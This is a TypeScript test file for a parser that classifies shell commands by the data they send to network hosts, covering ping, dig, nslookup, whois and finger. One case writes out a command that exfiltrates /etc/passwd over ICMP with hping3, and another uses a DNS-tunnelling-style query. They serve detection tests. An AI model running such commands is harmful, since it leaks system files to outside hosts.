import { describe, expect, it } from 'vitest';
import { describeTransfer } from '../describe-transfer.ts';
import { readTransfer } from '../read-transfer.ts';

/** `␣` is a blank within an argument. */
function told(line: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, undefined, 'linux');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

describe('lookups and pings', () => {
  it.each([['hping3 -E /etc/passwd -d 100 h', 'ping: upload of files /etc/passwd to icmp://h, clear']])(
    'carry something out: %s',
    (line, expected) => {
      expect(told(line)).toBe(expected);
    },
  );
});

describe('lookups and pings', () => {
  it.each([
    ['nslookup x.example', 'nslookup: unknown of literal, clear'],
    ['dig +short MX corp.example', 'dig: unknown of literal, clear'],
    [
      'dig @1.2.3.4 aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ.t.example',
      'dig: unknown of literal to dns://1.2.3.4, clear',
    ],
    ['host x.example 8.8.8.8', 'host: unknown of literal to dns://8.8.8.8, clear'],
    ['whois -h h -p 43 data', 'whois: unknown of literal to whois://h:43, clear'],
    ['finger data@h', 'finger: unknown of literal to finger://h, clear'],
    ['ping -c 1 h', 'ping: unknown to icmp://h, clear'],
    ['ping -p ff00 h', 'ping: unknown of literal to icmp://h, clear'],
    ['dig -f names.txt', 'dig: unknown of files names.txt, clear'],
    ['dig -x 192.0.2.1 +noall +answer', 'dig: unknown of literal, clear'],
    ['nslookup -type=TXT x.example 192.0.2.53', 'nslookup: unknown of literal to dns://192.0.2.53, clear'],
    ['ping 192.0.2.1', 'ping: unknown to icmp://192.0.2.1, clear'],
  ])('do not say: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});
